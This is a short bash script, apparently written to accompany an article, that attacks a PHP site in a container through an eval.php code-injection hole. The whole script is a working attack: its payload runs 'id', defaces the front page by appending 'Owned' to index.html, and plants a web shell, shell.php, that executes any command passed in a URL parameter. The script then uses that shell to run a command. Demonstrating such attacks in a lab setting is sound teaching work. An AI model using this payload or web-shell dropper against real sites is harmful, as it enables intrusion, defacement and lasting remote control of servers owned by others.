#!/usr/bin/env bash
# The article's intruder: has the site run PHP through its hole, which defaces the front page, drops a
# web shell, and comes back through that.
# ZERO_DRIFT_URL says where the site is; what it answers is printed.
set -euo pipefail

# shellcheck disable=SC2016 # PHP's variables, not ours
readonly PAYLOAD='
system("id");
system("(echo \"<p>Owned</p>\" >> /var/www/html/index.html) 2>&1");
file_put_contents("/var/www/html/shell.php", "<?php system(\$_GET[\"c\"]);\n") or print error_get_last()["message"] . "\n";
'

main() {
  echo 'Through the hole:'
  get /eval.php --get --data-urlencode "cmd=$PAYLOAD"
  echo 'Through the web shell:'
  get '/shell.php?c=id'
}

# A proxy for the internet would not know the container.
get() {
  curl --silent --show-error --fail --max-time 10 --noproxy '*' "${@:2}" "$ZERO_DRIFT_URL$1"
}

main
